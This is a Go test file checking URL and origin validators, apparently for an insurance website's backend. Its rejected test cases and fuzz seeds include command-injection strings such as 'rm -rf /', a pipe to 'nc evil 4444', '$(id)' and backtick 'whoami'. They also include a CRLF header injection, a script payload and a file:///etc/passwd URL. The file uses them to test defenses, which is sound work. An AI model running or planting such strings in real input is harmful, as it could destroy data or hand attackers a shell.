package validation

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestValidateURL(t *testing.T) {
	tests := []struct {
		name      string
		url       string
		expectErr bool
	}{
		{"http with port", "http://localhost:8080", false},
		{"https", "https://heartland-insurance.example", false},
		{"path and query", "https://example.com/quote/auto?ref=home", false},
		{"javascript scheme", "javascript:alert(1)", true},
		{"file scheme", "file:///etc/passwd", true},
		{"data scheme", "data:text/html,<script>alert(1)</script>", true},
		{"no scheme", "localhost:8080", true},
		{"no host", "http://", true},
		{"command separator", "http://localhost:8080;rm -rf /", true},
		{"pipe", "http://localhost:8080|nc evil 4444", true},
		{"substitution", "http://localhost:8080$(id)", true},
		{"backtick", "http://localhost:8080`whoami`", true},
		{"header injection", "http://localhost:8080\r\nHost: evil", true},
		{"space", "http://localhost:8080/ x", true},
		{"empty", "", true},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := ValidateURL(tt.url)
			if tt.expectErr {
				assert.Error(t, err)
			} else {
				assert.NoError(t, err)
			}
		})
	}
}

func TestValidateURL_ReportsInjectionBeforeParseErrors(t *testing.T) {
	// url.Parse rejects this as a bad port; the injection is what matters.
	err := ValidateURL("http://localhost:8080;open /Applications/Calculator.app")
	require.Error(t, err)
	assert.Contains(t, err.Error(), "dangerous character")
}

func TestValidateOrigin(t *testing.T) {
	tests := []struct {
		origin    string
		expectErr bool
	}{
		{"https://heartland-insurance.example", false},
		{"http://localhost:3000", false},
		{"https://example.com/", false},
		{"https://example.com/contact", true},
		{"https://example.com?x=1", true},
		{"https://user:pw@example.com", true},
		{"example.com", true},
		{"*", true},
	}

	for _, tt := range tests {
		t.Run(tt.origin, func(t *testing.T) {
			err := ValidateOrigin(tt.origin)
			if tt.expectErr {
				assert.Error(t, err)
			} else {
				assert.NoError(t, err)
			}
		})
	}
}

func FuzzValidateURL(f *testing.F) {
	for _, seed := range []string{
		"http://localhost:8080",
		"https://example.com",
		"javascript:alert('xss')",
		"http://localhost:8080; rm -rf /",
		"http://localhost:8080\r\nHost: evil",
		"",
	} {
		f.Add(seed)
	}

	f.Fuzz(func(t *testing.T, raw string) {
		if ValidateURL(raw) != nil {
			return
		}
		for _, char := range shellMeta {
			if strings.Contains(raw, char) {
				t.Errorf("accepted URL with %q: %q", char, raw)
			}
		}
	})
}
